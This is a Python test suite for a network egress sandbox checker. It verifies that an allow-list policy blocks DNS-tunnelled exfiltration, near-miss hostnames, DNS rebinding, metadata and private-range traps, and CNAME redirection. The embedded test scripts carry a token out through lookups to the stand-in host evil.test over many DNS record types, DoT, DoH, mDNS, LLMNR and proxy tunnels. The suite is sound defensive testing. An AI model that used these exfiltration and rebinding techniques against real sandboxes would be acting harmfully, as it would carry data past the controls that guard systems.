# SPDX-License-Identifier: Apache-2.0
"""Names: look-ups that carry data out, names that are nearly allowed, and names that lead elsewhere."""

import secrets

from doorcheck.driver import Entry, Policy
from doorcheck.internet import zone
from doorcheck.trial import case

ALLOWED = Policy((Entry("allowed.test", 443),))
TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35, "SVCB": 64,
         "HTTPS": 65, "ANY": 255}

# Above every time limit of the program's own; below the five seconds of a resolver that nobody answers.
HUNG_SECONDS = 4.5
LOOK_UPS = r'''
for family in (socket.AF_INET, socket.AF_INET6, 0):
    attempt(f"getaddrinfo {family}", socket.getaddrinfo, f"{TOKEN}{family}.evil.test", 443, family)
for server in ("127.0.0.1", RESOLVER, "8.8.8.8"):
    for name, kind in TYPES.items():
        def looks():
            code, count, _ = dns(server, f"{TOKEN}-{name}.evil.test".lower(), kind)
            if count: raise AssertionError(f"ANSWERED with {count} records")
            return code
        attempt(f"{name} of {server}", looks)
    attempt(f"tcp of {server}", lambda: dns(server, f"{TOKEN}-tcp.evil.test", 1, tcp=True)[:2])
    attempt(f"wild of {server}", lambda: dns(server, f"{TOKEN}.wild.test", 1)[:2])
attempt("DoT", lambda: dns(RESOLVER, f"{TOKEN}-dot.evil.test", 1, tcp=True, port=853))
attempt("DoT of evil", lambda: answer(secure(dial(EVIL, 853), "evil.test", False), struct.pack("!H", 40) + query(f"{TOKEN}.evil.test")))
attempt("DoH by name", lambda: fetch("evil.test", path=f"/dns-query?name={TOKEN}"))
attempt("DoH by address", lambda: fetch("evil.test", at=EVIL, path=f"/dns-query?name={TOKEN}", check=False))
attempt("mDNS", lambda: datagram("224.0.0.251", 5353, query(f"{TOKEN}.local")))
attempt("LLMNR", lambda: datagram("224.0.0.252", 5355, query(TOKEN)))
attempt("NetBIOS", lambda: datagram("192.0.2.255", 137, query(TOKEN)))
attempt("PTR", lambda: socket.gethostbyaddr(EVIL))
if PROXY:
    attempt("CONNECT", lambda: tunnel(f"{TOKEN}-connect.evil.test", 443, PROXY))
    attempt("absolute form", lambda: answer(dial(*PROXY), request(f"{TOKEN}.evil.test", f"http://{TOKEN}.evil.test/")))
'''


@case(2, "names carry data out: every record type, DoT, DoH, mDNS, the proxy")
def names_carry_data_out(trial):
    token = "x" + secrets.token_hex(12)
    policy = Policy((Entry("allowed.test", 443), Entry("*.wild.test", 443)))
    result, events = trial.run(LOOK_UPS, policy, TOKEN=token, TYPES=TYPES, RESOLVER=zone.RESOLVER, EVIL=zone.EVIL)
    trial.never_asked(events, token)
    trial.nothing_arrived(events)
    for name, told in result.tries().items():
        if "ANSWERED" in told["said"]:
            trial.problem(f"{name}: {told['said']}")
        if told["seconds"] > HUNG_SECONDS:
            trial.problem(f"{name}: it hung for {told['seconds']} s")
    if trial.world.of(events, "http"):
        trial.problem("a request arrived")


NEARLY = r'''
for host in ("sub.allowed.test", "notallowed.test", "allowed.test.evil.test", "allowed.testevil.test", "evil.test"):
    attempt(host, fetch, host, check=False)
for port in (80, 22, 8080, 8443, 9000):
    attempt(f"port {port}", lambda: answer(dial("allowed.test", port), request("allowed.test")))
attempt("allowed", fetch, "allowed.test")
'''
WILD = r'''
attempt("sub", fetch, "sub.allowed.test")
attempt("apex", fetch, "allowed.test")
attempt("other", fetch, "evil.test", check=False)
'''


@case(6, "an allowed name is that name and port alone; a wildcard leaves out its apex")
def exactly_that(trial):
    result, events = trial.run(NEARLY, ALLOWED)
    trial.refused(result, but=("allowed",))
    if trial.driver.transparent:
        trial.worked(result, "allowed")
    trial.nothing_arrived(events, zone.EVIL, zone.SUB)
    ports = {event["port"] for event in trial.world.reached(events, zone.ALLOWED, zone.ALLOWED6)}
    if ports - {443}:
        trial.problem(f"other ports of the allowed host were reached: {sorted(ports - {443})}")
    trial.denial_names(result, "sub.allowed.test", 443)
    result, events = trial.run(WILD, Policy((Entry("*.allowed.test", 443),)))
    if trial.driver.transparent:
        trial.worked(result, "sub")
    trial.refused(result, "apex", "other")
    trial.nothing_arrived(events, zone.ALLOWED, zone.ALLOWED6, zone.EVIL)


REBIND = r'''
for number in range(4):
    attempt(f"{HOST} {number}", fetch, HOST, tls=True)
'''


@case(8, "rebinding: a name whose next answer is private, and an answer of both kinds")
def rebinding(trial):
    for host in ("flip.test", "flip-host.test"):
        result, events = trial.run(REBIND, Policy((Entry(host, 443),)), HOST=host)
        trial.nothing_arrived(events, "10.0.0.1", zone.METADATA, zone.HOME, "127.0.0.1")
        if trial.world.of(events, "home"):
            trial.problem("the machine itself was reached")
        if trial.driver.transparent:
            trial.worked(result, f"{host} 0")
        trial.refused(result, f"{host} 3")
    result, events = trial.run("attempt('mixed', fetch, 'mixed.test', check=False)", Policy((Entry("mixed.test", 443),)))
    trial.refused(result)
    trial.nothing_arrived(events, "10.0.0.1", zone.MIXED)


TRAPPED = r'''
for name in NAMES:
    attempt(name, fetch, name, check=False)
    attempt(name + " plain", fetch, name, tls=False)
'''


@case(9, "allowed names that lead to NAT64, 6to4, mapped metadata, private ranges and the machine itself")
def trapped_names(trial):
    policy = Policy((Entry("*.trap.test", 443), Entry("*.trap.test", 80)))
    result, events = trial.run(TRAPPED, policy, 120, NAMES=sorted(zone.TRAPS))
    trial.refused(result)
    trial.nothing_arrived(events)
    if trial.world.of(events, "home"):
        trial.problem("the machine itself was reached")


LED = r'''
def sees_evil():
    raw = b""
    for kind in (1, 5, 28, 64, 65, 255):
        raw += dns("127.0.0.1", HOST, kind)[2]
    if socket.inet_aton(EVIL) in raw or b"\x04evil\x04test" in raw: return "the answer names evil"
    raise LookupError("nothing of evil")
attempt("names evil", sees_evil)
attempt("allowed", fetch, HOST, check=False)
attempt("evil by its name", fetch, "evil.test", check=False)
attempt("evil by the alias", fetch, "www.evil.test", check=False)
attempt("evil by its address", fetch, HOST, at=EVIL, check=False)
'''


@case(10, "a CNAME or an HTTPS record leads to evil")
def led_elsewhere(trial):
    for host in ("cname.test", "hinted.test"):
        result, events = trial.run(LED, Policy((Entry(host, 443),)), HOST=host, EVIL=zone.EVIL)
        trial.refused(result, but=("allowed",))
        # The owner of an allowed name may point it anywhere public. Nobody else's name may appear in the handshake.
        for event in trial.world.of(events, "tls"):
            if event["sni"] != host:
                trial.problem(f"a handshake for {event['sni']} arrived at {event['address']}")
        if host == "hinted.test":
            trial.nothing_arrived(events, zone.EVIL)
    result, events = trial.run("attempt('private', fetch, 'cname-private.test', check=False)", Policy((Entry("cname-private.test", 443),)))
    trial.refused(result)
    trial.nothing_arrived(events, zone.METADATA)
